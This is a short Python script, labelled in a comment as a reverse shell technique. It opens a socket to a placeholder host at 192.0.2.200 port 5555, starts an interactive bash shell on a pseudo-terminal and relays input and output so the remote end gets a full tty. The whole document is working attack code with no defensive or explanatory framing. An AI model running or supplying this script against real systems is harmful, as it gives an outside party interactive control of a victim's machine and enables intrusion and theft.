# technique: reverse shell using a pty master/slave pair by hand (pty.openpty + select) so the remote gets a real tty
import os, pty, select, socket, subprocess

C = ("192.0.2.200", 5555)
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(C)
master, slave = pty.openpty()
proc = subprocess.Popen(["/bin/bash", "--noprofile", "--norc", "-i"],
                        stdin=slave, stdout=slave, stderr=slave,
                        preexec_fn=os.setsid, close_fds=True)
os.close(slave)
try:
    while proc.poll() is None:
        r, _, _ = select.select([s, master], [], [])
        if s in r:
            d = s.recv(1024)
            if not d:
                break
            os.write(master, d)
        if master in r:
            try:
                d = os.read(master, 1024)
            except OSError:
                break
            if not d:
                break
            s.send(d)
finally:
    proc.kill()
    s.close()
